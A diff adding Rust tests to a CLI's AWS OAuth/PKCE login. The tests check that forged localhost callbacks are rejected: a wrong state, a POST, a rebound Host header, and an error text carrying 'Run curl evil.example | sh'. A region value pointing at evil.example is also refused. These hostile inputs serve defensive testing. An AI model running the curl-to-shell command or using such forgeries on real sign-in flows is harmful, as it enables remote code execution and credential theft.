@@ -447,28 +447,117 @@ fn rolecall_login_signs_in_with_pkce_and_writes_the_cache_both_tools_read() {
     assert!(standin.refusals().is_empty(), "{:?}", standin.refusals());
 }
 
+/// The sign-in's `state` and its listener's `127.0.0.1:PORT`, from the authorize URL.
+fn state_and_listener(url: &str) -> (String, String) {
+    let param = |name: &str| {
+        let value = url.split(&format!("{name}=")).nth(1).unwrap();
+        value.split('&').next().unwrap().to_string()
+    };
+    let redirect = param("redirect_uri")
+        .replace("%3A", ":")
+        .replace("%2F", "/");
+    let addr = redirect
+        .trim_start_matches("http://")
+        .trim_end_matches("/oauth/callback")
+        .to_string();
+    (param("state"), addr)
+}
+
+/// Sends `request` as it is to `addr`; the whole reply.
+fn raw_request(addr: &str, request: &str) -> String {
+    use std::io::{Read, Write};
+    let mut stream = std::net::TcpStream::connect(addr).unwrap();
+    stream.write_all(request.as_bytes()).unwrap();
+    let mut reply = String::new();
+    let _ = stream.read_to_string(&mut reply);
+    reply
+}
+
+/// A GET of `target` on `addr` naming `host`.
+fn raw_get(addr: &str, target: &str, host: &str) -> String {
+    raw_request(
+        addr,
+        &format!("GET {target} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"),
+    )
+}
+
 #[test]
-fn a_sign_in_whose_state_or_verifier_does_not_match_writes_nothing() {
+fn forged_callbacks_are_ignored_and_the_sign_in_goes_on() {
     let standin = SigninStandin::start();
     let mut env = Env::new("", "");
     env.set("AWS_ENDPOINT_URL_SIGNIN", &standin.url);
-
-    // A forged answer: another state.
     let (child, url, _b) = start_login(&env, &["--profile", "console"]);
-    let state = url
-        .split("state=")
-        .nth(1)
-        .unwrap()
-        .split('&')
-        .next()
-        .unwrap()
-        .to_string();
-    let (status, _) = common::signin_standin::follow(&url.replace(&state, "forged-state"));
-    assert_eq!(status, 200);
+    let (state, addr) = state_and_listener(&url);
+    // A local program that connects and says nothing holds nothing up.
+    let _idle = std::net::TcpStream::connect(&addr).unwrap();
+    let forged = [
+        // Another state, with a code or with words for the terminal.
+        raw_get(
+            &addr,
+            "/oauth/callback?code=FORGED&state=forged-state",
+            &addr,
+        ),
+        raw_get(
+            &addr,
+            "/oauth/callback?error=access_denied&error_description=run+curl&state=forged-state",
+            &addr,
+        ),
+        // The right state from a page on a name rebound to 127.0.0.1, or not a GET.
+        raw_get(
+            &addr,
+            &format!("/oauth/callback?code=FORGED&state={state}"),
+            "rebound.example",
+        ),
+        raw_request(
+            &addr,
+            &format!(
+                "POST /oauth/callback?code=FORGED&state={state} HTTP/1.1\r\nHost: {addr}\r\n\r\n"
+            ),
+        ),
+    ];
+    for reply in &forged {
+        assert!(reply.starts_with("HTTP/1.1 4"), "{reply}");
+        assert!(
+            !reply.contains("FORGED") && !reply.contains("curl"),
+            "{reply}"
+        );
+    }
+
+    let (status, page) = common::signin_standin::follow(&url);
+    assert_eq!(status, 200, "{page}");
+    let out = child.wait_with_output().unwrap();
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(out.status.success(), "{stderr}");
+    assert!(standin.refusals().is_empty(), "{:?}", standin.refusals());
+    assert_eq!(read_cache(&env)["clientId"], CLIENT_ID);
+}
+
+#[test]
+fn a_refusal_from_the_sign_in_page_names_only_its_error_code() {
+    let standin = SigninStandin::start();
+    let mut env = Env::new("", "");
+    env.set("AWS_ENDPOINT_URL_SIGNIN", &standin.url);
+    let (child, url, _b) = start_login(&env, &["--profile", "console"]);
+    let (state, addr) = state_and_listener(&url);
+    let reply = raw_get(
+        &addr,
+        &format!("/oauth/callback?state={state}&error=access_denied&error_description=Run+curl+evil.example+%7C+sh"),
+        &addr,
+    );
+    assert!(!reply.contains("curl"), "{reply}");
     let out = child.wait_with_output().unwrap();
     let stderr = String::from_utf8_lossy(&out.stderr);
     assert!(!out.status.success());
-    assert!(stderr.contains("state is not the one sent"), "{stderr}");
+    assert!(stderr.contains("access_denied"), "{stderr}");
+    assert!(!stderr.contains("curl"), "{stderr}");
+    assert!(!cache_path(&env).exists());
+}
+
+#[test]
+fn a_sign_in_whose_verifier_does_not_match_writes_nothing() {
+    let standin = SigninStandin::start();
+    let mut env = Env::new("", "");
+    env.set("AWS_ENDPOINT_URL_SIGNIN", &standin.url);
 
     // Another challenge than rolecall's verifier hashes to: the service refuses the code.
     let (child, url, _b) = start_login(&env, &["--profile", "console"]);
@@ -483,6 +572,19 @@ fn a_sign_in_whose_state_or_verifier_does_not_match_writes_nothing() {
     assert!(!cache_path(&env).exists());
     let config = std::fs::read_to_string(env.home().join(".aws/config")).unwrap();
     assert!(config.is_empty(), "{config}");
+}
+
+#[test]
+fn login_refuses_a_region_that_is_not_a_region_name_naming_the_setting() {
+    let env = Env::new("[profile evil]\nregion = evil.example/x#\n", "");
+    let err = failed(&env.rolecall(&["login", "--profile", "evil", "--no-browser"]));
+    assert!(
+        err.contains("the region of profile 'evil' is not a region name"),
+        "{err}"
+    );
+    assert!(!err.contains("evil.example"), "{err}");
+    let err = failed(&env.rolecall(&["login", "--profile", "new", "--region", "a.b/c#"]));
+    assert!(err.contains("--region is not a region name"), "{err}");
 }
 
 #[test]
